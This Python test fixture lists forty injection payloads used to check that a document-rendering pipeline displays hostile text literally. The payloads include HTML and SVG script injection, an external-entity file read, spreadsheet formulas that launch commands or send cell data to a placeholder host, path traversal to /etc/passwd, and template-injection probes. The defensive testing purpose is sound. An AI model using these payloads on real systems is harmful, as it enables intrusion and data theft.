"""Forty texts that try to be more than text, for the promise S1: shown literally in every format.

``text`` is what a file, a label or a title holds; ``shown`` is what a reader must find in the output. They differ
only where characters cannot be shown as they are: control characters, which no format can hold, and the controls
of writing direction, which would disguise the text beside them. Those are written out as their code, ``[U+001B]``
(``pipeline.render.text.printable``); a test compares with white space folded: ``folded(payload.shown)``.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One hostile text. ``kind`` is what would have to interpret it."""

    id: str
    kind: str
    text: str
    shown: str


def _same(id_: str, kind: str, text: str) -> Payload:
    return Payload(id_, kind, text, text)


PAYLOADS: tuple[Payload, ...] = (
    # HTML
    _same("html_script", "html", "<script>window.hit=1</script>"),
    _same("html_img", "html", '<img src=x onerror="window.hit=2">'),
    _same("html_attribute", "html", '" onmouseover="window.hit=3" x="'),
    _same("html_attribute_single", "html", "' autofocus onfocus='window.hit=4' x='"),
    _same("html_close", "html", "</title></style></script></svg></table><h1>injected</h1>"),
    _same("html_comment", "html", "--><!-- x --!> ]]> <![CDATA[ y"),
    _same("html_entity", "html", "&lt;b&gt; &#60;i&#62; &amp; &nbsp;&copy"),
    _same("html_link", "html", '<a href="javascript:window.hit=5">javascript:window.hit=5</a>'),
    _same("html_frame", "html", '<iframe srcdoc="<script>parent.hit=6</script>"></iframe>'),
    _same("html_meta", "html", '<meta http-equiv="refresh" content="0;url=http://example.invalid/">'),
    _same("html_form", "html", '<base href="http://example.invalid/"><form action=//example.invalid>'),
    _same("html_style", "html", "</style><style>body{display:none}</style>"),
    # SVG
    _same("svg_onload", "svg", '<svg onload="window.hit=7"><script>window.hit=8</script></svg>'),
    _same("svg_foreign", "svg", '</text><foreignObject><body onload="window.hit=9"/></foreignObject>'),
    _same("svg_use", "svg", '</text><use href="http://example.invalid/x.svg#a"/><image href="file:///etc/passwd"/>'),
    _same("svg_entity", "svg", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;'),
    # PDF
    _same("pdf_string", "pdf", ") /S /JavaScript /JS (app.alert(1)) ("),
    _same("pdf_object", "pdf", "endstream endobj 1 0 obj << /OpenAction 2 0 R >>"),
    # spreadsheet formulas
    _same("sheet_equals", "sheet", '=HYPERLINK("http://example.invalid/"&A1,"open")'),
    _same("sheet_plus", "sheet", "+1+cmd|' /C calc'!A0"),
    _same("sheet_minus", "sheet", "-2+3+cmd|' /C calc'!A0"),
    _same("sheet_at", "sheet", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _same("sheet_tab", "sheet", "\t=1+1"),
    Payload("sheet_return", "sheet", "\r=1+2", "[U+000D]=1+2"),
    _same("sheet_array", "sheet", '{=WEBSERVICE("http://example.invalid/")}'),
    _same("sheet_link", "sheet", "http://example.invalid/ mailto:a@example.invalid"),
    _same("sheet_external", "sheet", "'[http://example.invalid/x.xlsx]Sheet1'!A1"),
    # CSV
    _same("csv_quote", "csv", '"a","b""c";d,e'),
    _same("csv_line", "csv", 'one\ntwo,three\n"four'),
    # mathematics in charts
    _same("math_dollar", "math", "$\\frac{1}{0}$ and $x_1^2"),
    _same("math_broken", "math", "100$ or 50$ \\undefined{ }"),
    # Typst
    _same("typst_read", "typst", '#read("/etc/passwd") #eval("1+1")'),
    _same("typst_set", "typst", "#set page(width: 1pt); *bold* _it_ `raw` = head <label> @ref // gone"),
    _same("typst_math", "typst", '$ sum_(i=0)^n $ #panic("stop") \\u{41} ~ --- https://example.invalid'),
    # paths
    _same("path_up", "path", "../../../../etc/passwd"),
    _same("path_windows", "path", '..\\..\\CON.txt C:\\x:*?"<>|%00 file:///etc/passwd'),
    # template braces
    _same("template", "template", "{{ 7*7 }}{% for x in y %}{# gone #}${7*7}{0}{n#a|b}<%= 7*7 %>%s%(x)s"),
    _same("template_class", "template", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    # control characters and directions of writing
    Payload(
        "control",
        "control",
        "a\x00b\x07c\x1b[31md\x7fe\x85f\ufffeg",
        "a[U+0000]b[U+0007]c[U+001B][31md[U+007F]e[U+0085]f[U+FFFE]g",
    ),
    Payload("bidi", "bidi", "abc\u202e\u2066fed\u2069 ghi", "abc[U+202E][U+2066]fed[U+2069] ghi"),
)

if len(PAYLOADS) != 40 or len({p.id for p in PAYLOADS}) != 40:
    raise RuntimeError("the promise S1 names forty payloads")


def folded(text: str) -> str:
    """White space folded to single spaces, as every format's reader does."""
    return " ".join(text.split())
